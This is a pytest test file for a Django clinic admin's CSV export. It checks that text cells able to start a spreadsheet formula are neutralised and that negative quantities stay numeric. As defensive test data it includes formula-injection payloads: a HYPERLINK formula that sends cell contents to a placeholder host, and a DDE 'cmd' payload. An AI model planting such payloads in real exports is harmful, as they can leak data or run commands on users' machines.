"""The admin's CSV exports cannot carry a formula into a spreadsheet: a text cell that would start
one is prefixed so it shows as text, while numbers (negative ones included) stay numbers."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from practice import services
from practice.models import StockMovement
from tests.practice.factories import PatientFactory, ProductFactory, give_stock

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"Open")', "+SUM(1,2)", "-2+3", "@SUM(A1:A9)", "\tTab", "\rReturn"]


def export(client: Any, model: str, pks: list[int]) -> list[dict[str, str]]:
    response = client.post(f"/admin/practice/{model}/", {"action": "export_csv", "_selected_action": pks})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_text_cells_that_would_start_a_formula_are_prefixed(manager, admin_as) -> None:
    patients = [PatientFactory(first_name=text, last_name="Ashdown") for text in FORMULAS]
    plain = PatientFactory(first_name="Ruth", last_name="=cmd|' /C calc'!A0", phone="+44 7700 900123")
    rows = export(admin_as(manager), "patient", [p.pk for p in [*patients, plain]])
    firsts = {row["First name"] for row in rows}
    assert {"'" + text for text in FORMULAS} <= firsts
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    ruth = next(row for row in rows if row["First name"] == "Ruth")
    assert ruth["Last name"] == "'=cmd|' /C calc'!A0" and ruth["Phone"] == "'+44 7700 900123"
    assert next(row for row in rows if row["First name"] == "'+SUM(1,2)")["Last name"] == "Ashdown"


def test_negative_numbers_stay_numbers_while_text_is_neutralised(manager, admin_as) -> None:
    product = give_stock(ProductFactory(), 5)
    services.stock_adjust(product=product, quantity=-2, note="-2 after the stock take")
    movement = StockMovement.objects.get(kind="adjustment")
    (row,) = export(admin_as(manager), "stockmovement", [movement.pk])
    assert row["Quantity"] == "-2"  # a number, as the ledger has it
    assert row["Balance after"] == "3"
    assert row["Note"] == "'-2 after the stock take"
